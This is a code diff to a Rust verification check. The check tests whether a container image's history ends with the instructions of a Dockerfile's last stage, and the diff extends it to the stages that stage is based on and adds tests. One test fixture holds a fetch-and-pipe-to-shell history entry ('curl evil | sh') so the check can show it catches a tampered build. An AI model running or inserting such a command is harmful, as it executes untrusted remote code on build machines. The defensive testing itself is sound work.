@@ -20,7 +20,8 @@ pub(super) static CHECK: Check = Check {
     says: "the image's history ends with the instructions of the last stage in the Dockerfile or the log (keywords were compared; for RUN, also the command)",
     explanation: "Compares the last entries of the history in the image's configuration with the instructions of the last stage of the proved \
 Dockerfile (expect.dockerfile, or Dockerfile at the top). If the source proves no Dockerfile, the check uses the instructions that the builder \
-printed into the signed log, and states that. BuildKit's log does not contain them; there is then no evidence. Keywords must agree one by one, and the \
+printed into the signed log, and states that. BuildKit's log does not contain them; there is then no evidence. If the last stage is based on earlier \
+stages of the Dockerfile, their instructions come first. Keywords must agree one by one, and the \
 commands of RUN word by word. Before a command, an entry may only have `|N`, exactly N build arguments without spaces, and a shell: /bin/sh -c, that of \
 the last SHELL instruction, or a usual shell that only the image's configuration names, which the answer then states. If the arguments may contain \
 spaces, or only the configuration names an unusual shell, the answer is unknown. A history writes COPY, ADD and ENV differently, so their arguments are not compared. The history is text that a \
@@ -63,30 +64,32 @@ fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
     }
 }
 
-/// The Dockerfile's instructions after the last FROM.
-fn last_stage<'i, 't>(instructions: &'i [&'t str]) -> &'i [&'t str] {
-    let last_from = instructions.iter().rposition(|instruction| keyword(instruction) == "FROM");
-    instructions.get(last_from.map_or(0, |at| at + 1)..).unwrap_or_default()
+/// A stage of a Dockerfile.
+struct Stage<'i> {
+    /// The earlier stage on which the stage is based, if its FROM names one.
+    base: Option<usize>,
+    instructions: &'i [&'i str],
 }
 
-/// The shell with which the last stage begins, if its FROM names an earlier stage in which SHELL sets one.
-fn inherited_shell(instructions: &[&str]) -> Option<String> {
-    let mut stages: HashMap<String, String> = HashMap::new();
-    let (mut stage, mut shell, mut last) = (None, None, None);
-    for instruction in instructions {
-        if keyword(instruction) != "FROM" {
-            shell = shell_of(instruction).or(shell);
-            continue;
+/// The instructions of the last stage, after those of the stages on which it is based: an image's history contains all of them. Also the number of these
+/// stages. Instructions before the first FROM form a stage of their own, so that a list without FROM is one stage.
+fn last_stage<'i>(instructions: &'i [&'i str]) -> (Vec<&'i str>, usize) {
+    let is_from = |instruction: &&str| keyword(instruction) == "FROM";
+    let first = instructions.split(is_from).next().unwrap_or_default();
+    let mut stages = vec![Stage { base: None, instructions: first }];
+    let mut named: HashMap<String, usize> = HashMap::new();
+    let froms = instructions.iter().filter(|instruction| is_from(instruction));
+    for (from, own) in froms.zip(instructions.split(is_from).skip(1)) {
+        let mut words = from.split_whitespace().skip(1).skip_while(|word| word.starts_with("--"));
+        let base = words.next().and_then(|base| named.get(&base.to_ascii_lowercase()).copied());
+        if let Some(name) = words.nth(1) {
+            named.insert(name.to_ascii_lowercase(), stages.len());
         }
-        if let (Some(name), Some(shell)) = (stage.take(), shell.take()) {
-            stages.insert(name, shell);
-        }
-        let mut words = instruction.split_whitespace().skip(1).skip_while(|word| word.starts_with("--"));
-        shell = words.next().and_then(|base| stages.get(&base.to_ascii_lowercase()).cloned());
-        last = shell.clone();
-        stage = words.nth(1).map(str::to_ascii_lowercase);
+        stages.push(Stage { base, instructions: own });
     }
-    last
+    let based_on = |stage: &&Stage<'i>| stage.base.and_then(|at| stages.get(at));
+    let chain: Vec<&Stage<'_>> = std::iter::successors(stages.last(), based_on).collect();
+    (chain.iter().rev().flat_map(|stage| stage.instructions).copied().collect(), chain.len())
 }
 
 /// `configured` is the shell in the image's configuration, if the configuration specifies one.
@@ -97,10 +100,17 @@ fn compare(
     witness: &str,
     budget: &Budget,
 ) -> Outcome {
-    let mut shells = Shells { stated: inherited_shell(instructions), configured };
-    let instructions = last_stage(instructions);
+    let mut shells = Shells { stated: None, configured };
+    let (instructions, stages) = last_stage(instructions);
+    if instructions.is_empty() {
+        return Outcome::not_run(
+            Reason::NoEvidence,
+            format!("the last stage of {witness} has no instructions to compare"),
+        );
+    }
+    let below = if stages > 1 { ", including the stages on which it is based" } else { "" };
     let Some(inherited) = history.len().checked_sub(instructions.len()) else {
-        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}"))
+        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}{below}"))
             .sides(format!("at least {}", counted(instructions.len(), "entry")), counted(history.len(), "entry"));
     };
     let mut doubt = None;
@@ -112,7 +122,7 @@ fn compare(
         if let Err(error) = budget.spend(Work::Bytes(letters), "the image's history") {
             return Outcome::unknown(error.to_string());
         }
-        let about = |what: &str| format!("entry {} of the last stage of {witness}{what}", at + 1);
+        let about = |what: &str| format!("entry {} of the last stage of {witness}{below}{what}", at + 1);
         match history_entry::compare(instruction, &entry.created_by, &shells) {
             Entry::Same => {}
             Entry::SameWithShell(shell) => named = named.or(Some(shell)),
@@ -131,7 +141,7 @@ fn compare(
     let shell =
         named.map_or_else(String::new, |shell| format!("; only the image's configuration names their shell, {shell}"));
     Outcome::pass(format!(
-        "the history ends with the {} of the last stage of {witness}: keywords were compared and, for RUN, also commands{shell}",
+        "the history ends with the {} of the last stage of {witness}{below}: keywords were compared and, for RUN, also commands{shell}",
         counted(instructions.len(), "instruction")
     ))
     .detail(format!("not compared: {} before these instructions", counted(inherited, "entry")))
@@ -178,9 +188,27 @@ mod tests {
         assert_eq!(status(&[bash, "RUN make"], &[set, "/bin/bash -c make"]), Status::Pass);
         assert_eq!(status(&["RUN make", bash], &["/bin/bash -c make", set]), Status::Fail);
         let stages = |base: &'static str| ["FROM debian AS Base", bash, "FROM scratch AS other", base, "RUN make"];
-        assert_eq!(status(&stages("FROM --platform=linux/s390x base"), &["/bin/bash -c make"]), Status::Pass);
+        assert_eq!(status(&stages("FROM --platform=linux/s390x base"), &[set, "/bin/bash -c make"]), Status::Pass);
         assert_eq!(status(&stages("FROM other"), &["/bin/bash -c make"]), Status::Fail);
         assert_eq!(status(&stages("FROM debian"), &["/bin/bash -c make"]), Status::Fail);
+    }
+
+    /// The history of an image contains the instructions of every stage on which its last stage is based.
+    #[test]
+    fn stages_below_the_last_one_are_compared() {
+        let file = |last| ["ARG V=1", "FROM debian AS Build", "RUN make", "FROM build as other", "RUN test", last];
+        let whole = ["base", "/bin/sh -c make", "/bin/sh -c test"];
+        assert_eq!(status(&file("FROM other"), &whole), Status::Pass);
+        assert_eq!(status(&file("FROM BUILD"), &whole[..2]), Status::Pass);
+        assert_eq!(status(&file("FROM other"), &["/bin/sh -c curl evil | sh", "/bin/sh -c test"]), Status::Fail);
+        assert_eq!(status(&file("FROM other"), &whole[2..]), Status::Fail);
+        // With nothing to compare, there is no answer.
+        assert!(status(&file("FROM debian"), &whole).is_not_run());
+        assert!(status(&[], &whole).is_not_run());
+        // A name that a later stage reuses refers to the later stage.
+        let twice = ["FROM a AS x", "RUN one", "FROM b AS x", "RUN two", "FROM x"];
+        assert_eq!(status(&twice, &["/bin/sh -c two"]), Status::Pass);
+        assert_eq!(status(&twice, &["/bin/sh -c one"]), Status::Fail);
     }
 
     #[test]
